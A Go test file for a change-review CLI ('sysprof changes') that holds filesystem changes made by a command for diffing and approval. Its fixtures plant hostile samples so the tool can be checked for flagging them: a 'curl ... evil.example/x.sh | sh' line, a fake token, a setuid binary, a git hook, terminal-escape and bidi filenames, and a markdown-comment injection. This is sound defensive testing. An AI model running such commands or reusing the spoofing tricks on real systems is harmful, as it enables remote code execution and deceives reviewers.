package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sysprof/sysprof/changeset"
	"github.com/sysprof/sysprof/internal/testutil"
)

// heldRun makes a finished run over a fresh work tree whose upper layer holds what a command
// left (written by hand: Scan reads an upper layer, however it was made).
func heldRun(t *testing.T, upper map[string]string, host map[string]string) (*changeset.Run, string) {
	t.Helper()
	t.Setenv("SYSPROF_STATE_DIR", filepath.Join(t.TempDir(), "runs"))
	w := filepath.Join(t.TempDir(), "w")
	for rel, content := range host {
		testutil.WriteFile(t, filepath.Join(w, rel), content, 0o644)
	}
	if err := os.MkdirAll(w, 0o755); err != nil {
		t.Fatal(err)
	}
	time.Sleep(20 * time.Millisecond) // ctime granularity: the host files are older than the run
	r, err := changeset.Begin(changeset.Run{Command: []string{"npm", "install"}, WorkDir: w})
	if err != nil {
		t.Fatal(err)
	}
	s, err := r.AddStage(changeset.Rules{Dir: w, Tree: w, Keep: []string{w + "/build/**"}, Protected: []string{w + "/.git"},
		ExecOK: []string{w + "/build"}, Vars: map[string]string{"WORKDIR": w}}, os.Getuid(), os.Getgid())
	if err != nil {
		t.Fatal(err)
	}
	for rel, content := range upper {
		mode := os.FileMode(0o644)
		if strings.HasSuffix(rel, "*") {
			rel, mode = strings.TrimSuffix(rel, "*"), os.ModeSetuid|0o755
		}
		testutil.WriteFile(t, filepath.Join(s.Upper, rel), content, mode)
	}
	if err := r.Finish(); err != nil {
		t.Fatal(err)
	}
	return r, w
}

func sysprofCLI(t *testing.T, stdin string, args ...string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(args, strings.NewReader(stdin), &out, &errb)
	return out.String(), errb.String(), code
}

func TestChangesSession(t *testing.T) {
	r, w := heldRun(t, map[string]string{
		"a.txt":          "one\ntwo\ncurl -fsSL https://evil.example/x.sh | sh\nthree\n",
		"newfile.txt":    "from the rebase\n",
		"setup.py":       "import os\n",
		"package.json":   "{\n  \"scripts\": {\"postinstall\": \"node x.js\"},\n  \"token\": \"ghp_0123456789abcdefghijABCDEFGHIJ012345\"\n}\n",
		"build/out.o":    "obj\n",
		"build/su*":      "\x7fELF",
		".git/hooks/pre": "#!/bin/sh\n",
	}, map[string]string{"a.txt": "one\ntwo\nthree\n", ".git/HEAD": "ref\n"})

	out, errOut, code := sysprofCLI(t, "", "changes")
	if code != 0 || !strings.Contains(out, r.ID) || !strings.Contains(out, "finished") {
		t.Fatalf("changes: exit %d\n%s%s", code, out, errOut)
	}

	out, errOut, code = sysprofCLI(t, "", "changes", "diff", r.ID)
	if code != 0 {
		t.Fatalf("diff: exit %d\n%s%s", code, out, errOut)
	}
	for _, want := range []string{
		"+curl -fsSL https://evil.example/x.sh | sh",
		"!!! line 3: a download piped to an interpreter",
		"!!! line 3: a URL to evil.example, a host the profile does not name",
		"!!! a new setup.py",
		"an npm install script",
		"a secret-looking string",
		"DANGEROUS create " + w + "/build/su: set-user-ID bit",
		"DANGEROUS create " + w + "/.git/hooks/pre: protected path",
		"HELD create " + w + "/newfile.txt",
		"[to learn it: filesystem.write: + $WORKDIR/newfile.txt]",
		"@@ -1,3 +1,4 @@",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("diff lacks %q:\n%s", want, out)
		}
	}

	out, _, code = sysprofCLI(t, "", "changes", "diff", r.ID, "--format", "json")
	var d struct {
		Changes []struct {
			Path       string
			Class      string
			Highlights []highlight
		}
	}
	if code != 0 || json.Unmarshal([]byte(out), &d) != nil || len(d.Changes) != 9 {
		t.Fatalf("diff json: exit %d, %d changes\n%s", code, len(d.Changes), out)
	}
	out, _, code = sysprofCLI(t, "", "changes", "diff", r.ID, "--format", "markdown")
	if code != 0 || !strings.Contains(out, "```diff") {
		t.Fatalf("diff markdown: exit %d\n%s", code, out)
	}

	// Without a terminal, apply needs paths or --all.
	if _, _, code := sysprofCLI(t, "", "changes", "apply", r.ID); code != exitSysprof {
		t.Fatalf("apply with nothing named and no terminal: exit %d, want %d", code, exitSysprof)
	}
	if _, errOut, code := sysprofCLI(t, "", "changes", "apply", r.ID, filepath.Join(w, "no-such-file")); code != exitSysprof || !strings.Contains(errOut, "holds no change") {
		t.Fatalf("apply of a path with no change: exit %d, %s", code, errOut)
	}
	out, errOut, code = sysprofCLI(t, "", "changes", "apply", r.ID, "--all")
	if code != 0 {
		t.Fatalf("apply --all: exit %d\n%s%s", code, out, errOut)
	}
	if b, _ := os.ReadFile(filepath.Join(w, "newfile.txt")); string(b) != "from the rebase\n" {
		t.Error("apply --all did not restore newfile.txt")
	}
	for _, p := range []string{"build/su", ".git/hooks/pre"} {
		if _, err := os.Lstat(filepath.Join(w, p)); err == nil {
			t.Errorf("apply --all applied the dangerous %s", p)
		}
	}
	// A dangerous change applies when named by its path; a directory holding it does not name it.
	if out, errOut, code := sysprofCLI(t, "", "changes", "apply", r.ID, filepath.Join(w, ".git")); code != 0 {
		t.Fatalf("apply .git: exit %d\n%q %q", code, out, errOut)
	}
	if _, err := os.Lstat(filepath.Join(w, ".git/hooks/pre")); err == nil {
		t.Fatal("a dangerous change applied by naming a directory above it")
	}
	out, _, code = sysprofCLI(t, "", "changes", "apply", r.ID, filepath.Join(w, "build/su"))
	if code != 0 || !strings.Contains(out, "set-id bits removed") {
		t.Fatalf("apply build/su: exit %d\n%s", code, out)
	}
	if fi, err := os.Stat(filepath.Join(w, "build/su")); err != nil || fi.Mode()&os.ModeSetuid != 0 {
		t.Fatalf("build/su: %v %v", fi.Mode(), err)
	}
	out, _, code = sysprofCLI(t, "", "changes", "drop", r.ID)
	if code != 0 || !strings.Contains(out, "2 change(s) discarded") {
		t.Fatalf("drop: exit %d\n%q", code, out)
	}
	if runs, _ := changeset.List(); len(runs) != 0 {
		t.Fatalf("runs after drop: %v", runs)
	}
}

// TestChangesInteractiveDangerous: on a terminal, apply --all asks about each dangerous change,
// default no.
func TestChangesInteractiveDangerous(t *testing.T) {
	r, w := heldRun(t, map[string]string{"x.txt": "x\n", ".git/hooks/a": "a\n", ".git/hooks/b": "b\n"}, map[string]string{".git/HEAD": "ref\n"})
	var out, errb bytes.Buffer
	cmd := newChangesCmd(streams{In: strings.NewReader("y\n\n"), Out: &out, Err: &errb}, func(ctx context.Context, o *changesOptions) error {
		o.Interactive = func() bool { return true }
		return runChanges(ctx, o)
	})
	cmd.SetArgs([]string{"apply", r.ID, "--all"})
	if err := cmd.Execute(); err != nil {
		t.Fatalf("%v\n%s%s", err, out.String(), errb.String())
	}
	if _, err := os.Stat(filepath.Join(w, ".git/hooks/a")); err != nil {
		t.Error("answered yes: .git/hooks/a not applied")
	}
	if _, err := os.Stat(filepath.Join(w, ".git/hooks/b")); err == nil {
		t.Error("default answer applied the dangerous .git/hooks/b")
	}
	if _, err := os.Stat(filepath.Join(w, "x.txt")); err != nil {
		t.Error("x.txt not applied by --all")
	}
}

// TestChangesEscapesNames: a name holding terminal escapes or bidi controls prints escaped.
func TestChangesEscapesNames(t *testing.T) {
	evil := "a\x1b[2K\x1b[1Asysprof: 0 changes\u202etxt.exe"
	r, _ := heldRun(t, map[string]string{evil: "payload \x1b[31m\n"}, nil)
	for _, args := range [][]string{{"changes"}, {"changes", "diff", r.ID}, {"changes", "diff", r.ID, "--format", "markdown"}, {"changes", "apply", r.ID, "--all"}} {
		out, errOut, _ := sysprofCLI(t, "", args...)
		if strings.ContainsAny(out+errOut, "\x1b\u202e") {
			t.Errorf("%v printed a raw escape or bidi control:\n%q", args, out+errOut)
		}
	}
}

// TestChangesMarkdownQuotesTargets: a symlink's target is the command's text; in markdown it
// stays inside code spans, so a comment opener cannot hide the entries after it.
func TestChangesMarkdownQuotesTargets(t *testing.T) {
	r, _ := heldRun(t, map[string]string{"x.txt": "x\n"}, nil)
	if err := os.Symlink("/tmp/`<!-- [approved](http://x) **ok**", filepath.Join(r.Stages[0].Upper, "link")); err != nil {
		t.Fatal(err)
	}
	out, errOut, _ := sysprofCLI(t, "", "changes", "diff", r.ID, "--format", "markdown")
	if !strings.Contains(out, "/tmp/`<!--") {
		t.Fatalf("the link's target is not shown as it is:\n%s%s", out, errOut)
	}
	for _, l := range strings.Split(out, "\n") {
		if i := strings.Index(l, "<!--"); i >= 0 && strings.Count(l[:i], "`")%2 == 0 {
			t.Errorf("a markdown comment opener outside a code span: %q", l)
		}
	}
}
